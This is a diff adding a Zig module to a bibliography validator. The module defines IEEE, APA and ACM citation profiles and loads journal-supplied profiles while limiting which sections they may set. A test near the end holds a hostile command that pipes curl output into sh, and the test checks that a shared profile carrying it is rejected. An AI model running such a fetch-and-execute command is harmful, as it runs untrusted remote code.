@@ -0,0 +1,246 @@
+//! Validation profiles for citation styles and submission guidelines.
+//!
+//! A profile is a config file of the checks a style or venue asks for: the
+//! venue form and title capitalization, and `[[policy.rules]]` for the
+//! fields each entry type needs and the form of its page ranges. bibval
+//! ships profiles for common styles, and journals and conferences can
+//! publish their own as a file or URL for authors to check against before
+//! submission. Select one with `--profile ieee` (or a path or URL) or
+//! `profile = "ieee"` in the config; settings of the config file override
+//! the profile's, and its field rules are checked along with the profile's.
+
+const std = @import("std");
+const config = @import("config.zig");
+const http = @import("http.zig");
+const cache = @import("cache.zig");
+const validators = @import("validators.zig");
+const venues = @import("venues.zig");
+const titlecase = @import("titlecase.zig");
+
+pub const Profile = struct {
+    /// Name given to `--profile`.
+    name: []const u8,
+    /// One-line summary for `--help`.
+    description: []const u8,
+    /// Settings, in config file syntax.
+    settings: []const u8,
+};
+
+pub const all = [_]Profile{
+    .{
+        .name = "ieee",
+        .description = "IEEE: abbreviated venues, sentence-case titles, page ranges",
+        .settings =
+        \\[fix]
+        \\venue_style = "abbreviated"
+        \\title_style = "sentence"
+        \\
+        \\[[policy.rules]]
+        \\name = "ieee-article"
+        \\types = ["article"]
+        \\require = ["author", "title", "journal", "volume", "year", "pages"]
+        \\
+        \\[[policy.rules]]
+        \\name = "ieee-proceedings"
+        \\types = ["inproceedings", "conference"]
+        \\require = ["author", "title", "booktitle", "year"]
+        \\
+        \\[[policy.rules]]
+        \\name = "ieee-book"
+        \\types = ["book"]
+        \\require = ["title", "publisher", "year"]
+        \\
+        \\[[policy.rules]]
+        \\name = "ieee-pages"
+        \\field = "pages"
+        \\pattern = '^\d+(--\d+)?$'
+        \\message = "pages must be a page or a range with a double hyphen, e.g. 770--778"
+        ,
+    },
+    .{
+        .name = "apa",
+        .description = "APA 7: full venue names, sentence-case titles, DOIs",
+        .settings =
+        \\[fix]
+        \\venue_style = "full"
+        \\title_style = "sentence"
+        \\
+        \\[[policy.rules]]
+        \\name = "apa-article"
+        \\types = ["article"]
+        \\require = ["author", "title", "journal", "volume", "year"]
+        \\
+        \\[[policy.rules]]
+        \\name = "apa-doi"
+        \\types = ["article", "inproceedings", "incollection"]
+        \\require = ["doi"]
+        \\severity = "info"
+        \\message = "APA asks for the DOI of every work that has one"
+        \\
+        \\[[policy.rules]]
+        \\name = "apa-book"
+        \\types = ["book"]
+        \\require = ["author", "title", "publisher", "year"]
+        \\
+        \\[[policy.rules]]
+        \\name = "apa-pages"
+        \\field = "pages"
+        \\pattern = '^(\d+(--\d+)?|e\d+)$'
+        \\message = "pages must be a range with a double hyphen, e.g. 770--778, or an article number, e.g. e0123"
+        ,
+    },
+    .{
+        .name = "acm",
+        .description = "ACM: full venue names, title-case titles, DOIs",
+        .settings =
+        \\[fix]
+        \\venue_style = "full"
+        \\title_style = "title"
+        \\
+        \\[[policy.rules]]
+        \\name = "acm-article"
+        \\types = ["article"]
+        \\require = ["author", "title", "journal", "volume", "number", "year"]
+        \\
+        \\[[policy.rules]]
+        \\name = "acm-proceedings"
+        \\types = ["inproceedings"]
+        \\require = ["author", "title", "booktitle", "year"]
+        \\
+        \\[[policy.rules]]
+        \\name = "acm-doi"
+        \\types = ["article", "inproceedings"]
+        \\require = ["doi"]
+        \\message = "ACM references must give a DOI"
+        \\
+        \\[[policy.rules]]
+        \\name = "acm-pages"
+        \\field = "pages"
+        \\pattern = '^(\d+(--\d+)?|\d+:\d+--\d+:\d+)$'
+        \\message = "pages must be a range with a double hyphen, e.g. 770--778, or article pages, e.g. 12:1--12:20"
+        ,
+    },
+};
+
+pub fn find(name: []const u8) ?*const Profile {
+    for (&all) |*profile| {
+        if (std.ascii.eqlIgnoreCase(profile.name, name)) return profile;
+    }
+    return null;
+}
+
+/// Sections a shared profile may set. Validators, webhooks, API keys, and
+/// file paths stay with the user's own config, so a profile from a journal
+/// cannot run commands or send data anywhere.
+const shared_sections = [_][]const u8{ "fix.", "policy.", "matching.", "screening." };
+
+/// The settings of profile `name`: a built-in profile, or the path (relative
+/// to `base_dir`) or http(s) URL of a shared one. Profiles from URLs are
+/// kept in the response cache.
+pub fn load(allocator: std.mem.Allocator, dir: std.fs.Dir, base_dir: []const u8, name: []const u8, diag: ?*config.Diagnostic) !config.Document {
+    if (find(name)) |profile| return config.parse(allocator, profile.settings, diag);
+
+    const text = if (std.mem.startsWith(u8, name, "https://") or std.mem.startsWith(u8, name, "http://")) blk: {
+        var response_cache = cache.Cache.init(allocator, true) catch try cache.Cache.init(allocator, false);
+        defer response_cache.deinit();
+        if (response_cache.get("profile", name)) |cached| break :blk cached;
+        var client = http.Client.init(allocator, validators.USER_AGENT);
+        defer client.deinit();
+        const body = client.get(name) catch return config.fail(diag, 0, "cannot fetch profile");
+        response_cache.set("profile", name, body) catch {};
+        break :blk body;
+    } else blk: {
+        const full_path = if (std.fs.path.isAbsolute(name)) try allocator.dupe(u8, name) else try std.fs.path.join(allocator, &.{ base_dir, name });
+        defer allocator.free(full_path);
+        break :blk dir.readFileAlloc(allocator, full_path, 1024 * 1024) catch
+            return config.fail(diag, 0, "cannot read profile; use \"ieee\", \"apa\", \"acm\", or the path or URL of a profile");
+    };
+    defer allocator.free(text);
+    return parseShared(allocator, text, diag);
+}
+
+/// Parse a shared profile. It may build on a built-in profile with its own
+/// `profile` key.
+pub fn parseShared(allocator: std.mem.Allocator, text: []const u8, diag: ?*config.Diagnostic) !config.Document {
+    // Line numbers would point into the user's config in error messages
+    var doc = config.parse(allocator, text, null) catch |err| switch (err) {
+        error.OutOfMemory => return err,
+        else => return config.fail(diag, 0, "profile is not a valid config file; check it with --config"),
+    };
+    errdefer doc.deinit();
+
+    for (doc.values.keys()) |key| {
+        if (std.mem.eql(u8, key, "screening.blocklist")) return config.fail(diag, 0, "profiles cannot set screening.blocklist");
+        if (std.mem.eql(u8, key, "profile")) continue;
+        const shared = for (shared_sections) |section| {
+            if (std.mem.startsWith(u8, key, section)) break true;
+        } else false;
+        if (!shared) return config.fail(diag, 0, "profiles may only set [fix], [policy], [matching], and [screening]");
+    }
+
+    if (try doc.getString("profile", diag)) |name| {
+        const profile = find(name) orelse return config.fail(diag, 0, "a profile can only build on \"ieee\", \"apa\", or \"acm\"");
+        var base = try config.parse(allocator, profile.settings, diag);
+        defer base.deinit();
+        try doc.inherit(&base);
+    }
+    return doc;
+}
+
+test "style profiles" {
+    const allocator = std.testing.allocator;
+
+    for (all) |profile| {
+        var doc = try config.parse(allocator, profile.settings, null);
+        var cfg = try config.Config.fromDocument(&doc, null);
+        cfg.deinit();
+    }
+    try std.testing.expectEqualStrings("apa", find("APA").?.name);
+    try std.testing.expect(find("chicago") == null);
+
+    var doc = try config.parse(allocator,
+        \\[fix]
+        \\venue_style = "full"
+        \\
+        \\[[policy.rules]]
+        \\name = "lab-keywords"
+        \\require = ["keywords"]
+    , null);
+    var base = try config.parse(allocator, find("ieee").?.settings, null);
+    defer base.deinit();
+    doc.inherit(&base) catch |err| {
+        doc.deinit();
+        return err;
+    };
+    var cfg = try config.Config.fromDocument(&doc, null);
+    defer cfg.deinit();
+
+    try std.testing.expectEqual(venues.Style.full, cfg.venue_style);
+    try std.testing.expectEqual(titlecase.Style.sentence, cfg.title_style);
+    try std.testing.expectEqual(@as(usize, 5), cfg.policy.field_rules.len);
+    try std.testing.expectEqualStrings("ieee-article", cfg.policy.field_rules[0].name);
+    try std.testing.expectEqualStrings("lab-keywords", cfg.policy.field_rules[4].name);
+
+    var journal = try parseShared(allocator,
+        \\profile = "acm"
+        \\[fix]
+        \\venue_style = "abbreviated"
+        \\[[policy.rules]]
+        \\name = "tocs-keywords"
+        \\types = ["article"]
+        \\require = ["keywords"]
+    , null);
+    defer journal.deinit();
+    try std.testing.expectEqualStrings("abbreviated", journal.get("fix.venue_style").?.string);
+    try std.testing.expectEqualStrings("title", journal.get("fix.title_style").?.string);
+    try std.testing.expectEqual(@as(usize, 5), journal.tableCount("policy.rules"));
+    try std.testing.expectEqualStrings("tocs-keywords", journal.get("policy.rules.4.name").?.string);
+
+    var diag: config.Diagnostic = .{};
+    try std.testing.expectError(config.ConfigError.InvalidValue, parseShared(allocator,
+        \\[[validators.external]]
+        \\name = "x"
+        \\command = "sh -c 'curl example.org | sh'"
+    , &diag));
+    try std.testing.expectError(config.ConfigError.InvalidValue, parseShared(allocator, "profile = \"https://example.org/p.toml\"", &diag));
+}